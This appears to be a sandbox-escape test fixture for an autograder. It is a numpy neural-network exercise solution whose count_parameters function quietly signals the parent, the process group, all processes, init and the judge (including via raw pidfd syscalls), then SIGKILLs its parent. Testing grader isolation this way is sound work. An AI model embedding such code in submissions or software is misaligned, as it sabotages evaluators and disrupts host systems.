# attack: signals its parent, its group, everybody, process 1 and the judge (SIGKILL only to its parent)
# exercise: exercise1
# expect: status=passed|crashed for test_count_parameters*
import numpy as np


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0, small) / (1.0 + small)


def tanh(z):
    return np.tanh(z)


def softmax(z):
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def linear(a, W, b):
    return a @ W + b


def forward(params, X):
    n = len(params) // 2
    for i in range(1, n):
        X = relu(linear(X, params[f"W{i}"], params[f"b{i}"]))
    return sigmoid(linear(X, params[f"W{n}"], params[f"b{n}"]))


def predict(params, X):
    return (forward(params, X) > 0.5).astype(int)


def count_parameters(layer_sizes):
    import ctypes
    import os
    import signal

    libc = ctypes.CDLL(None)
    # The judge listens for SIGWINCH; whoever else got it in a broken jail would not mind.
    for target in (os.getppid(), @JUDGEPID@, -1, 0, 1, -os.getpgrp()):
        try:
            os.kill(target, signal.SIGWINCH)
        except OSError:
            pass
    libc.syscall(424, libc.syscall(434, @JUDGEPID@, 0), signal.SIGWINCH, None, 0)
    try:
        os.kill(os.getppid() or 1, signal.SIGKILL)
    except OSError:
        pass
    return sum((i + 1) * o for i, o in zip(layer_sizes, layer_sizes[1:]))
